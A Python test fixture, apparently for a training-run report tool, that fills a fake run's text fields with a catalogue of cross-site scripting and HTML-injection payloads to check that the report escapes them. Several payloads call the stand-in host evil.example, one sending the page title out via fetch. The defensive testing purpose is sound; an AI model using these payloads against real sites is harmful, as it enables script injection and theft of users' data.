"""Texts that a model or its data's author might put into a page to make it run or call home.

Each payload that can run sets ``window.pwned``, opens a dialog or asks for something of
``evil.example``. The list is of kinds, one or two of each; OWASP's XSS filter evasion cheat sheet
and the HTML standard's parsing chapter have more of every kind.
"""

from pathlib import Path

import yaml
from shared.fake_run import write_fake_run

from vtkit.runs.rollout_store import RolloutWriter
from vtkit.runs.rollouts import load_rollouts

RUN = "window.pwned=1"
PAYLOADS = [
    # script elements
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    "<script src=http://evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    # out of the elements, attributes and strings that we write
    f"</script><script>{RUN}</script>",
    f"</SCRIPT\t><img src=x onerror={RUN}>",
    f"<!--<script>--></script><script>{RUN}</script>",
    f"</pre></article></section></body><script>{RUN}</script>",
    f"</title></head><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template></select><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f'" style="animation:x" onanimationstart="{RUN}',
    f"]]><script>{RUN}</script><![CDATA[",
    f"--><script>{RUN}</script><!--",
    # out of JSON and JavaScript
    f'"}}]}}</script><script>{RUN}</script>',
    f'\\"}}];{RUN};//',
    f"'-({RUN})-'",
    f"${{{RUN}}}`${{{RUN}}}`",
    f"\u2028{RUN}\u2029//",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "{{constructor.constructor('window.pwned=1')()}}",
    f"</script/><script>/*`*/{RUN}//",
    # event handlers
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"fetch('http://evil.example/'+document.title)\">",
    # addresses
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f"javascript:{RUN}",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<form action=javascript:{RUN}><input type=submit autofocus></form>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f"data:text/html,<script>{RUN}</script>",
    # frames, objects, things that load
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=http://evil.example/></iframe>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "<embed src=http://evil.example/x.swf>",
    "<img src=http://evil.example/x.png>",
    "<img srcset='http://evil.example/x.png 1x'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<video poster=http://evil.example/x.png></video>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    # style
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<b style='background:url(http://evil.example/x.png);position:fixed;inset:0'>x</b>",
    # characters
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\x00\x08\x0b\x0c\x1b<script>{RUN}</script>\x7f\x85",
    "\u202e<tpircs/>1=denwp.wodniw<tpircs>\u202c",
    "\u2066\u2069\u200e\u200f\ufeff\u200b\u00ad\U000e0041",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "a" * 400,
    # names that a JavaScript object already has
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    # documents in other languages
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"[x](javascript:{RUN}) ![x](http://evil.example/x.png)",
    "$\\href{javascript:window.pwned=1}{x}$",
]


def write_hostile_run(run_dir: Path) -> Path:
    """A run of one step and one group for each payload, put in every place for text."""
    write_fake_run(run_dir, steps=1, sft=False)
    row = load_rollouts(run_dir).to_pandas().iloc[0].to_dict()
    rows = [
        row
        | {"group": group, "sample": sample, "completion": completion, "question": payload}
        | {"task": payload, "choices": [payload, "left"], "solution": payload}
        for group, payload in enumerate(PAYLOADS)
        for sample, completion in enumerate((payload, f"Wait, {payload}</think><answer>{payload}"))
    ]
    # Markup never counts as reflection; this completion does, so the report quotes it.
    rows[0] |= {"completion": "Wait, let me check again.", "question": "\n".join(PAYLOADS)}
    RolloutWriter(run_dir / "rollouts").write(1, rows)
    config = yaml.safe_load((run_dir / "config.yaml").read_text())
    config["recipe"] = " ".join(PAYLOADS)
    (run_dir / "config.yaml").write_text(yaml.safe_dump(config))
    return run_dir
